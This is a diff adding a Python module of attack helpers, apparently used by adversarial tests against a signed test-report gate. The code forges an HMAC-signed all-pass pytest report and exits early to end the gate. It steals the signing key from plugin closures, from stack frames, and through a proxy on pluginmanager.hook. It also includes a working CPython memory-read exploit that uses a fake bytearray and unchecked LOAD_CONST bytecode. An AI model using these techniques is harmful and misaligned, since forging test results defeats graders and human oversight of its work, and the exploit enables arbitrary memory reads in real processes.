@@ -1,0 +1,120 @@
+"""
+What the attack files share, put beside each of them in the package as attack_kit.py (signed-report.test.ts): the
+forgery itself, the ways to the record, and the bytecode that reads any address. Code of the package like the attacks.
+"""
+import dis, hashlib, hmac, json, os, struct, types
+
+
+def forge(key, tests=("test_wrong", "test_also_wrong")):
+    """Signs a report of passes with the run's key, writes it to the report's pipe, and ends the gate."""
+    passed = {"tests/test_attack.py::%s" % name: "passed" for name in tests}
+    payload = json.dumps({"exitstatus": 0, "tests": passed, "collect_errors": [], "junit": None}).encode()
+    os.write(5, hmac.new(key, payload, hashlib.sha256).hexdigest().encode() + b"\n" + payload)
+    os._exit(0)
+
+
+def the_record(request):
+    """The record's generator, from the closure of the verdict plugin that pytest's plugin manager lists."""
+    for plugin in request.config.pluginmanager.get_plugins():
+        for cell in getattr(getattr(plugin, "pytest_runtest_logreport", None), "__closure__", None) or []:
+            if hasattr(cell.cell_contents, "send"):
+                return cell.cell_contents
+
+
+def forge_from_frames(frame):
+    """Walks up from a frame to the record's (its locals hold the key beside the digest function) and forges."""
+    while frame is not None:
+        names = frame.f_locals
+        if "key" in names and "digest" in names:
+            forge(names["key"])
+        frame = frame.f_back
+
+
+class HookReading:
+    """config.pluginmanager, as the record reads it in its check of pytest's hooks: the real one, but for .hook."""
+
+    def __init__(self, real, on_read):
+        object.__setattr__(self, "_real", real)
+        object.__setattr__(self, "_on_read", on_read)
+
+    @property
+    def hook(self):
+        self._on_read()  # run by the record itself, its frame (and the key) on the main thread's stack
+        return self._real.hook
+
+    def __getattr__(self, name):
+        return getattr(self._real, name)
+
+    def __setattr__(self, name, value):
+        setattr(self._real, name, value)
+
+
+def _template():
+    a = 1; a = 1; a = 1
+    return a
+
+
+TEMPLATE = getattr(_template, "__code__")
+_keep = []
+
+
+def load_const(index):
+    """The template's bytecode with its one instruction LOAD_CONST <index>, unchecked in 3.11."""
+    op = dis.opmap
+    index &= 0xFFFFFFFF
+    new = bytes([op["RESUME"], 0, op["EXTENDED_ARG"], index >> 24 & 255, op["EXTENDED_ARG"], index >> 16 & 255,
+                 op["EXTENDED_ARG"], index >> 8 & 255, op["LOAD_CONST"], index & 255, op["RETURN_VALUE"], 0])
+    return new + bytes([op["NOP"], 0]) * ((len(TEMPLATE.co_code) - len(new)) // 2)
+
+
+def fake_bytearray():
+    """A bytearray of our own making, every byte of the address space one of its items, and a word that points at it."""
+    fake = struct.pack("<QQqqQQq", 1 << 40, id(bytearray), (1 << 62), (1 << 62), 0, 0, 0)
+    holder = struct.pack("<Q", id(fake) + 32)
+    _keep.extend((fake, holder))
+    return holder
+
+
+def memory_reader(unmarshal):
+    """The fake bytearray, read by a function whose code `unmarshal` makes from the template's marshalled bytes."""
+    import marshal
+
+    holder = fake_bytearray()
+    data = marshal.dumps(TEMPLATE)
+    assert data.count(TEMPLATE.co_code) == 1
+
+    def load_const_at(index):
+        made = unmarshal(data.replace(TEMPLATE.co_code, load_const(index)))
+        return types.FunctionType(made, {}), made
+
+    # Build the function, then check the consts tuple it actually reads matches the offset it was built for.
+    for _ in range(200):
+        fn0, code0 = load_const_at(0)
+        guess = id(holder) + 32 - (id(code0.co_consts) + 24)
+        # freed, its block is the next tuple's of that size: the function built next most likely reads this one
+        del fn0, code0
+        fn, code = load_const_at(guess // 8)
+        if id(holder) + 32 - (id(code.co_consts) + 24) == guess:
+            view = fn()
+            _keep.extend((fn, code, view))
+            return view
+    raise RuntimeError("no stable layout")
+
+
+def key_in_memory(mem, record):
+    """The generator holds its frame inline: the local before the digest function is the key."""
+    import _hashlib
+
+    raw = bytes(mem[id(record): id(record) + 1024])
+    words = [int.from_bytes(raw[i:i + 8], "little") for i in range(0, len(raw), 8)]
+    pointer = words[words.index(id(_hashlib.hmac_digest)) - 1]
+    head = bytes(mem[pointer: pointer + 64])
+    assert int.from_bytes(head[8:16], "little") == id(bytes) and int.from_bytes(head[16:24], "little") == 32
+    return head[32:64]
+
+
+def forge_with_reader(request, mem):
+    print("reader", type(mem), flush=True)
+    key = key_in_memory(mem, the_record(request))
+    print("key", key.hex() if key else None, flush=True)
+    forge(key)
